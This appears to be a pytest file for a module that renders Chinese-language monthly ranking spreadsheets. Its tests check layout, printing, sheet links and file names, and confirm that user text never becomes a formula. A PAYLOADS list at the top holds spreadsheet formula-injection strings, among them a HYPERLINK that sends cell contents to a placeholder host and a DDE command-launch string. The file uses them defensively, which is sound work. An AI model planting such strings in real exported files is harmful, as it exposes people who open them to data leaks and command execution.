import shutil
import subprocess
from datetime import date, datetime
from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from campaign.reporting import Column, PartialDate
from campaign.reporting.sheets import Document, Sheet
from campaign.reporting.workbook import render

PAYLOADS = [
    '=HYPERLINK("http://x?"&A1,"点我")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＠SUM(1)",
    "#REF!",
]
COLUMNS = (
    Column("序号", 6, "integer", "center"),
    Column("姓名", 14),
    Column("综合得分", 12, "score"),
    Column("权重", 10, "percent", decimals=0),
    Column("填报日期", 13, "date"),
    Column("入党时间", 13, "date"),
    Column("成效说明", 48),
)


def sheet(*rows, name="月度排名表", columns=COLUMNS, **given):
    return Sheet(name, "信息化中心党总支", "2026年10月", columns, rows, **given)


def row(number, name, words=""):
    return (number, name, 9540, 3000, date(2026, 11, 2), PartialDate(date(2015, 7, 1), "month"), words)


def reload(*sheets):
    data = render(Document("月度排名表", sheets, date(2026, 11, 2)))
    return load_workbook(BytesIO(data)), data


def test_sheet_has_the_layout_that_is_handed_upward():
    total = (None, "合计", 9540, None, None, None, "1人")
    book, _ = reload(
        sheet(
            row(1, "周予安", "平台上线"),
            totals=total,
            notes=("缺项折算：互评不足5票。",),
            seal="校验码：3f9a 第10号",
        )
    )
    ws = book["月度排名表"]
    lines = [[cell for cell in cells if cell is not None] for cells in ws.iter_rows(values_only=True)]
    assert lines == [
        ["信息化中心党总支 2026年10月 月度排名表"],
        ["填报单位（盖章）：信息化中心党总支", "统计周期：2026年10月", "填报日期：2026年11月2日"],
        ["序号", "姓名", "综合得分", "权重", "填报日期", "入党时间", "成效说明"],
        [1, "周予安", 95.4, 0.3, datetime(2026, 11, 2), datetime(2015, 7, 1), "平台上线"],
        ["合计", 95.4, "1人"],
        ["缺项折算：互评不足5票。"],
        ["校验码：3f9a 第10号"],
        [],
        ["填表人：", "审核人：", "联系电话：" + "\u3000" * 9],
    ]
    assert [cell.number_format for cell in ws[4]] == [
        "0",
        "General",
        "0.00",
        "0%",
        "yyyy-mm-dd",
        "yyyy-mm",
        "General",
    ]
    assert "A1:G1" in {str(merged) for merged in ws.merged_cells.ranges}
    assert (ws.freeze_panes, ws.print_title_rows) == ("A4", "$1:$3")
    assert (ws.page_setup.orientation, ws.page_setup.paperSize) == ("landscape", 9)
    assert (ws.sheet_properties.pageSetUpPr.fitToPage, ws.page_setup.fitToWidth) == (True, 1)
    assert ws.page_setup.fitToHeight == 0
    assert (ws["A1"].font.name, ws["A3"].font.name, ws["A4"].font.name) == ("方正小标宋简体", "宋体", "宋体")
    assert {ws.cell(4, column).border.left.style for column in range(1, 8)} == {"thin"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_user_text_is_never_a_formula(payload):
    hostile = Sheet(payload, payload, payload, (Column(payload, 20), Column("乙", 20)), [(payload, payload)])
    book, data = reload(
        Sheet(
            payload,
            payload,
            payload,
            hostile.columns,
            hostile.rows,
            totals=(payload, payload),
            notes=(payload,),
            seal=payload,
        ),
        hostile,
    )
    types = {cell.data_type for ws in book for cells in ws.iter_rows() for cell in cells if cell.value}
    assert types <= {"s", "n"}
    with ZipFile(BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert [b"<f>" in archive.read(name) for name in sheets] == [False] * 3


def test_text_that_looks_like_a_formula_keeps_its_words_and_is_marked_as_text():
    book, _ = reload(sheet(row(1, "=1+1", "普通")))
    ws = book.active
    assert (ws["B4"].value, ws["B4"].quotePrefix, ws["G4"].quotePrefix) == ("=1+1", True, False)


def test_several_sheets_start_with_linked_contents():
    book, _ = reload(sheet(row(1, "甲"), name="示范岗/岗"), sheet(name="攻关队"))
    assert book.sheetnames == ["目录", "示范岗 岗", "攻关队"]
    contents = book["目录"]
    assert [[cell.value for cell in cells] for cells in contents["A4:C5"]] == [
        [1, "示范岗/岗", 1],
        [2, "攻关队", 0],
    ]
    assert [contents[place].hyperlink.location for place in ("B4", "B5")] == ["'示范岗 岗'!A1", "'攻关队'!A1"]


def test_sheet_of_one_column_carries_the_filling_in_line_in_one_cell():
    book, _ = reload(sheet(("甲",), columns=(Column("姓名", 80),)))
    assert book.active["A2"].value == (
        "填报单位（盖章）：信息化中心党总支　　统计周期：2026年10月　　填报日期：2026年11月2日"
    )


def test_long_text_gets_a_row_tall_enough_to_read():
    book, _ = reload(sheet(row(1, "短"), row(2, "长", "字" * 100)))
    heights = book.active.row_dimensions
    assert (heights[4].height, heights[5].height) == (20, 80)


def test_row_of_another_length_than_the_header_is_an_error():
    with pytest.raises(ValueError, match="a row of 2 under 7 columns"):
        sheet((1, "少一列"))


def test_file_is_named_in_chinese_without_what_a_file_system_refuses():
    named = Document("月度/排名表", [Sheet("表", '信息化"中心', "2026年10月", (), ())], date(2026, 11, 2))
    assert named.filename == "信息化中心-2026年10月-月度排名表.xlsx"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_printed_workbook_is_one_page_wide_and_repeats_its_header(tmp_path):
    wide = tuple(Column(f"第{number}列", 24) for number in range(1, 13))
    rows = [tuple(f"{line}行{number}" for number in range(1, 13)) for line in range(1, 81)]
    file = tmp_path / "wide.xlsx"
    file.write_bytes(
        render(Document("宽表", [sheet(*rows, columns=wide, seal="校验码：3f9a")], date(2026, 11, 2)))
    )
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", "--headless", profile, "--convert-to", "pdf", "--outdir", str(tmp_path), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    pages = subprocess.run(
        ["pdftotext", "-layout", str(tmp_path / "wide.pdf"), "-"], check=True, capture_output=True, text=True
    ).stdout.split("\f")[:-1]
    assert len(pages) > 1
    assert [("第1列" in page, "第12列" in page) for page in pages] == [(True, True)] * len(pages)
